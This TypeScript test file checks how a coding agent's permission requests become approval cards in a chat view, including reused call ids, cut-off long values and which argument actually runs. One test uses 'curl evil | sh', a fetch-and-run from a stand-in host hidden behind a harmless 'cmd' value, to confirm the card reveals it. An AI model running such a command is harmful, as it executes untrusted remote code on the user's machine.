/**
 * Which card a permission request lands on, what the chat view gets of it, and what the card
 * shows: zero's own request, in full, with the argument zero's tool runs marked.
 */
import '../webview/domEnv';
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { AcpTurnMapper } from '../../../src/host/acp/acpTurnMapper';
import { APPROVAL_VALUE_CHARS, approvalArguments } from '../../../src/shared/approvalArgs';
import { applyAction, createTranscript } from '../../../src/shared/transcript';
import type { ToolItem, Transcript, TranscriptAction } from '../../../src/shared/transcriptSchema';
import { toViewTranscript } from '../../../src/shared/viewTranscript';
import { renderTool } from '../../../src/webview/renderTool';
import type {
	RequestPermissionParams,
	SessionUpdate,
} from '../../../src/zero/protocol/acp/schemas';
import { renderContext } from '../webview/viewAnswers';

const OPTIONS = [
	{ optionId: 'allow', name: 'Allow', kind: 'allow_once' },
	{ optionId: 'deny', name: 'Reject', kind: 'reject_once' },
];

const context = renderContext({ toolDetails: () => 'loading' });

function turnOf() {
	const transcript: Transcript = createTranscript({ id: 'c', title: 't', createdAt: 0 });
	const mapper = new AcpTurnMapper({ turnId: 't1', sessionId: 'S' });
	const apply = (actions: TranscriptAction[]) =>
		actions.forEach((action) => applyAction(transcript, action));
	apply([{ type: 'turn/start', turnId: 't1' }, ...mapper.start()]);
	const update = (value: SessionUpdate) => apply(mapper.event({ kind: 'update', update: value }));
	const tools = () =>
		transcript.turns[0].run.items.filter((item): item is ToolItem => item.kind === 'tool');
	return { transcript, mapper, apply, update, tools };
}

function request(
	toolCallId: string,
	rawInput: unknown,
	title = 'exec_command',
): RequestPermissionParams {
	return {
		sessionId: 'S',
		toolCall: { toolCallId, title, kind: 'execute', status: 'pending', rawInput },
		options: OPTIONS,
	};
}

function completed(toolCallId: string, text: string): SessionUpdate {
	return {
		sessionUpdate: 'tool_call_update',
		toolCallId,
		status: 'completed',
		content: [{ type: 'content', content: { type: 'text', text } }],
	};
}

function announce(toolCallId: string, rawInput: unknown): SessionUpdate {
	return {
		sessionUpdate: 'tool_call',
		toolCallId,
		title: 'exec_command',
		kind: 'execute',
		status: 'in_progress',
		rawInput,
	};
}

/** The waiting card as the chat view draws it from a snapshot (what "Review" shows). */
function cardFromSnapshot(transcript: Transcript): HTMLElement {
	const view = toViewTranscript(transcript);
	const turn = view.turns[0];
	const tool = turn.run.items.filter((item): item is ToolItem => item.kind === 'tool').at(-1);
	assert.ok(tool);
	const card = renderTool(turn, tool, context);
	document.body.replaceChildren(card);
	return card;
}

describe('ACP approvals: which card a request lands on', () => {
	it('a request for a call id a finished call had (a model reuses call_1) gets its own card', () => {
		const { apply, update, tools, mapper } = turnOf();
		update(announce('call_1', { cmd: 'echo one' }));
		apply(mapper.permissionRequested('1', request('call_1', { cmd: 'echo one' })));
		apply(mapper.permissionSettled('1', { outcome: 'selected', optionId: 'allow' }, 'user'));
		update(completed('call_1', 'one'));
		// The model's next step reuses the id.
		update(announce('call_1', { cmd: 'rm -rf build' }));
		apply(mapper.permissionRequested('2', request('call_1', { cmd: 'rm -rf build' })));
		const [first, second] = tools();
		assert.equal(tools().length, 2);
		assert.equal(first.approval?.state, 'answered');
		assert.equal(first.result?.output, 'one');
		assert.deepEqual(first.approval?.rawInput, { cmd: 'echo one' });
		assert.equal(second.approval?.state, 'waiting');
		assert.deepEqual(second.approval?.rawInput, { cmd: 'rm -rf build' });
		update(completed('call_1', 'removed'));
		assert.equal(second.result?.output, 'removed');
		assert.equal(first.result?.output, 'one');
	});

	it('a reused id asked about before it is announced also gets its own card', () => {
		const { apply, update, tools, mapper } = turnOf();
		update(announce('call_1', { cmd: 'echo one' }));
		update(completed('call_1', 'one'));
		apply(mapper.permissionRequested('5', request('call_1', { cmd: 'echo two' })));
		update(announce('call_1', { cmd: 'echo two' }));
		assert.deepEqual(
			tools().map((tool) => [tool.args, tool.approval?.state]),
			[
				[{ cmd: 'echo one' }, undefined],
				[{ cmd: 'echo two' }, 'waiting'],
			],
		);
	});

	it("zero's follow-up request for a call that has not run replaces the answered one on its card", () => {
		const { apply, update, tools, mapper } = turnOf();
		update(announce('call_1', { cmd: 'curl x' }));
		apply(mapper.permissionRequested('1', request('call_1', { cmd: 'curl x' })));
		apply(mapper.permissionSettled('1', { outcome: 'selected', optionId: 'allow' }, 'user'));
		apply(mapper.permissionRequested('2', request('call_1', { cmd: 'curl x' })));
		assert.equal(tools().length, 1);
		assert.equal(tools()[0].approval?.requestId, '2');
		assert.equal(tools()[0].approval?.state, 'waiting');
	});

	it('settles a request by its id without reading the whole run', () => {
		const { transcript, apply, mapper } = turnOf();
		for (let index = 1; index <= 2000; index++) {
			apply(mapper.permissionRequested(`${index}`, request(`call_${index}`, { cmd: 'ls' })));
		}
		const run = transcript.turns[0].run;
		let reads = 0;
		run.items = new Proxy(run.items, {
			get(target, key, receiver) {
				if (typeof key === 'string' && /^\d+$/.test(key)) {
					reads++;
				}
				return Reflect.get(target, key, receiver) as unknown;
			},
		});
		apply(mapper.permissionSettled('1', { outcome: 'cancelled' }, 'cancel'));
		assert.equal((run.items[0] as ToolItem).approval?.settledBy, 'cancel');
		assert.ok(reads < 10, `read ${reads} items of the run to settle one request`);
	});
});

describe('ACP approvals: what the card shows', () => {
	it('shows the whole command of a waiting request from a snapshot, not the snapshot cut of the arguments', () => {
		const { transcript, apply, update, mapper } = turnOf();
		const command = `echo start && ${'true && '.repeat(200)}echo THE-END`;
		update(announce('call_1', { cmd: command }));
		apply(mapper.permissionRequested('1', request('call_1', { cmd: command })));
		const card = cardFromSnapshot(transcript);
		assert.equal(card.querySelector('.approval-target')?.textContent, command);
		assert.equal(card.querySelector('.approval-cut'), null);
	});

	it('for bash, marks "command" as what runs even when "cmd" is present too, and lists both', () => {
		const { transcript, apply, mapper } = turnOf();
		apply(
			mapper.permissionRequested(
				'1',
				request('call_1', { cmd: 'echo harmless', command: 'curl evil | sh' }, 'bash echo'),
			),
		);
		const card = cardFromSnapshot(transcript);
		assert.equal(card.querySelector('.approval-target')?.textContent, 'curl evil | sh');
		assert.deepEqual(
			[...card.querySelectorAll<HTMLElement>('.approval-arg')].map((row) => [
				row.dataset.key,
				row.querySelector('pre')?.textContent,
			]),
			[
				['command', 'curl evil | sh'],
				['cmd', 'echo harmless'],
			],
		);
		assert.match(
			card.querySelector('.approval')?.getAttribute('aria-label') ?? '',
			/curl evil \| sh/,
		);
	});

	it('cuts a value longer than the card shows with a visible count of what is left out', () => {
		const { transcript, apply, mapper } = turnOf();
		const command = `echo ${'x'.repeat(APPROVAL_VALUE_CHARS + 5000)}`;
		apply(mapper.permissionRequested('1', request('call_1', { cmd: command, workdir: 'sub' })));
		const card = cardFromSnapshot(transcript);
		assert.equal(
			card.querySelector('.approval-target')?.textContent,
			command.slice(0, APPROVAL_VALUE_CHARS),
		);
		assert.match(
			card.querySelector('.approval-cut')?.textContent ?? '',
			/5,005 more characters not shown/,
		);
		assert.equal(card.querySelector('.approval-arg[data-key="workdir"] pre')?.textContent, 'sub');
	});

	it("reads each tool's main input the way zero does", () => {
		const main = (tool: string, args: unknown) =>
			approvalArguments(tool, args).rows.find((row) => row.main);
		assert.equal(main('exec_command', { command: 'b', cmd: 'a' })?.text, 'a');
		assert.equal(main('bash', { shell: 'c', cmd: 'b' })?.text, 'b');
		assert.equal(
			main('bash', { command: null, cmd: 'b' })?.text,
			'b',
			'null is skipped, as zero does',
		);
		assert.match(
			main('bash', { command: 5, cmd: 'b' })?.refusal ?? '',
			/"command" must be a string/,
		);
		assert.match(main('bash', { command: '', cmd: 'b' })?.refusal ?? '', /must not be empty/);
		assert.equal(main('write_file', { file_path: 'b', path: 'a' })?.key, 'path');
		assert.equal(main('unknown_tool', { cmd: 'x' }), undefined);
		// A tool named like a member of every object reads no main input (and does not throw).
		assert.equal(main('constructor', { cmd: 'x' }), undefined);
		// The card's words for what each tool runs (#36): never "cmd (what zero runs)".
		assert.equal(main('exec_command', { cmd: 'a' })?.label, 'Command');
		assert.equal(main('bash', { command: 'a' })?.label, 'Command');
		assert.equal(main('write_file', { path: 'a' })?.label, 'File');
		assert.equal(main('web_fetch', { url: 'a' })?.label, 'Web address');
		assert.deepEqual(
			approvalArguments('unknown_tool', { a: 1, b: 'two' }).rows.map((row) => row.text),
			['1', 'two'],
		);
		let deep: unknown = 'bottom';
		for (let level = 0; level < 200_000; level++) {
			deep = [deep];
		}
		assert.match(
			approvalArguments('bash', { command: 'ls', deep }).rows[1].text,
			/nested too deeply to show/,
		);
		const many = Object.fromEntries(Array.from({ length: 45 }, (_, index) => [`k${index}`, index]));
		assert.equal(approvalArguments('x', many).hiddenArguments, 5);
	});

	it('a settled approval no longer carries the request into the view', () => {
		const { transcript, apply, mapper } = turnOf();
		apply(mapper.permissionRequested('1', request('call_1', { cmd: 'ls' })));
		apply(mapper.permissionSettled('1', { outcome: 'selected', optionId: 'allow' }, 'user'));
		const tool = toViewTranscript(transcript).turns[0].run.items[0] as ToolItem;
		assert.equal(tool.approval?.state, 'answered');
		assert.equal(tool.approval?.rawInput, undefined);
	});
});
